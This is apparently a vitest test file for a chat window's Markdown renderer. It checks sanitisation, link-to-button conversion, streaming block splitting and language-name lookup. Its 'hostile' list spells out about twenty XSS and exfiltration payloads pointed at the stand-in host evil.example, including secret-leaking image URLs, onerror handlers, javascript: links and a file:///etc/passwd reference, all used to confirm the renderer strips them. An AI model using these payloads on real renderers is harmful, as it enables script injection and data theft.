import { expect, it } from 'vitest'
import { createBlockSplitter } from '../../renderer/features/chat/markdown/blocks'
import { resolveLanguage } from '../../renderer/features/chat/markdown/languages'
import { renderMarkdown } from '../../renderer/features/chat/markdown/render'

// Ways in which a model's text could make the window fetch an address or run something.
const hostile = [
  '![x](https://evil.example/p.png?q=secret)',
  '![x][ref]\n\n[ref]: https://evil.example/p.png?q=secret',
  '<img src=https://evil.example/p.png onerror=alert(1)>',
  '<svg onload=alert(1)><image href=https://evil.example/p.png /></svg>',
  '<style>body{background:url(https://evil.example/p)}</style>',
  '<link rel=stylesheet href=https://evil.example/s.css>',
  '<iframe src=https://evil.example></iframe><object data=https://evil.example></object><embed src=https://evil.example>',
  '<video poster=https://evil.example/p.png src=https://evil.example/v></video><audio src=https://evil.example/a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input type=image src=https://evil.example/p.png></form>',
  '<base href=https://evil.example/><script src=https://evil.example/s.js></script><script>fetch("https://evil.example")</script>',
  '<a href="javascript:alert(1)" ping="https://evil.example">x</a>',
  '[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) [z](vbscript:x)',
  '[x](https://evil.example/"onmouseover="alert(1) "title")',
  '<https://evil.example/?q=secret> https://evil.example/?q=secret',
  '<div style="background-image:url(https://evil.example/p.png)">x</div>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>',
  '<button type="submit" data-address="https://evil.example" formaction="https://evil.example">x</button>',
  '| a |\n|---|\n| ![x](//evil.example/p.png) |',
  '- ![x](\\\\evil.example\\p.png)\n- ![x](file:///etc/passwd)',
  '```html\n<img src=https://evil.example/p.png>\n```',
]

it('renders nothing that fetches, follows or runs by itself', () => {
  for (const source of hostile) {
    const box = document.createElement('div')
    box.innerHTML = renderMarkdown(source)
    const fetching = box.querySelectorAll('img, picture, source, video, audio, iframe, object, embed, link, style, script, svg, math, form, input, base, meta, a[href], [src], [srcset], [href], [poster], [style], [background], [ping], [formaction]')
    expect(fetching.length, `${source}\n${box.innerHTML}`).toBe(0)
    for (const element of box.querySelectorAll('*')) {
      for (const attribute of element.attributes) expect(attribute.name, source).not.toMatch(/^on|^style$/)
      if (element.tagName === 'BUTTON') expect(element.getAttribute('type')).toBe('button')
    }
  }
})

it('makes links and images into buttons that carry their address', () => {
  const box = document.createElement('div')
  box.innerHTML = renderMarkdown('See [the paper](https://example.org/a?b=1&c=2) and ![a chart](https://example.org/x.png).')
  const [link, image] = box.querySelectorAll('button')
  expect(link?.textContent).toBe('the paper')
  expect(link?.getAttribute('data-address')).toBe('https://example.org/a?b=1&c=2')
  expect(image?.textContent).toBe('a chart')
})

it('keeps ordinary Markdown', () => {
  const html = renderMarkdown('Before\n\n# Title\n\n1. *one*\n2. **two** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |')
  for (const piece of ['<h1>Title</h1>', '<em>one</em>', '<strong>two</strong>', '<code>code</code>', '<td>2</td>']) expect(html).toContain(piece)
})

it('freezes finished blocks while the answer grows', () => {
  const text = 'First paragraph.\n\nSecond one grows.\n\n```js\nconst a = 1\n\nconst b = 2\n```\n\n- item\n- item two\n\nThe end.'
  const splitter = createBlockSplitter()
  let firstBlock: unknown
  for (let length = 1; length <= text.length; length++) {
    const blocks = splitter.update(text.slice(0, length))
    expect(new Set(blocks.map(block => block.key)).size).toBe(blocks.length)
    if (length > 20) {
      firstBlock ??= blocks[0]
      expect(blocks[0]).toBe(firstBlock)
    }
  }
  const blocks = splitter.update(text)
  expect(blocks.map(block => block.kind)).toEqual(['text', 'text', 'code', 'text', 'text'])
  expect(blocks[2]).toMatchObject({ source: 'const a = 1\n\nconst b = 2', language: 'js' })
  expect(blocks).toEqual(createBlockSplitter().update(text))
})

it('shows an unclosed fence as code, and starts over when the text is another', () => {
  const splitter = createBlockSplitter()
  expect(splitter.update('```python\nprint(1)')).toEqual([{ kind: 'code', key: 0, source: 'print(1)', language: 'python' }])
  expect(splitter.update('Something else')).toEqual([{ kind: 'text', key: 0, source: 'Something else' }])
  expect(splitter.update('')).toEqual([])
})

it('is linear in long answers', () => {
  const paragraph = 'One day, Ella went to the river with her friend Ben. '.repeat(4)
  const splitter = createBlockSplitter()
  const started = performance.now()
  let text = ''
  for (let i = 0; i < 600; i++) { text += `${paragraph}\n\n`; splitter.update(text) }
  expect(splitter.update(text).length).toBe(600)
  expect(performance.now() - started).toBeLessThan(2500)
})

it('resolves names of languages, and none of Object.prototype', () => {
  expect(resolveLanguage('C++')).toBe('cpp')
  expect(resolveLanguage('py')).toBe('python')
  expect(resolveLanguage('constructor')).toBeUndefined()
  expect(resolveLanguage('__proto__')).toBeUndefined()
})
